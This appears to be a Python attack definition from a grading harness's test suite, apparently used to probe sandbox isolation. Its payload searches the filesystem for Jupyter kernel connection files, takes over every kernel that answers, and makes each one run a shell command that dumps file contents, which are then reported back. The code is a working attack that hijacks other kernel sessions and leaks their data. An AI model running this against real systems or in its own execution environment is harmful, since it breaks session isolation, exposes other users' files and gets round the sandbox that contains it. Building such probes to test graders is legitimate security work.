"""It looks for connection files, its own and other kernels', and speaks to whatever kernel answers."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="reading",
    wants=Want.LEAK,
    make=answer(
        """
import glob
import json
import os

places = ["/tmp", os.path.expanduser("~"), HOME, "/run/user", "/root", "/home", "."]
found = []
for place in places:
    found += glob.glob(f"{place}/**/kernel-*.json", recursive=True)[:50]
try:
    import ipykernel.connect
    found.append(ipykernel.connect.get_connection_file())
except Exception:
    pass
for path in found:
    try:
        with open(path) as file:
            about = json.load(file)
        from jupyter_client import BlockingKernelClient
        client = BlockingKernelClient()
        client.load_connection_info(about)
        client.start_channels()
        client.execute("import os; os.system('cat */* ~/* | head -c 100000')")
        for _ in range(20):
            tell(client.get_iopub_msg(timeout=0.5))
    except Exception:
        pass
"""
    ),
)
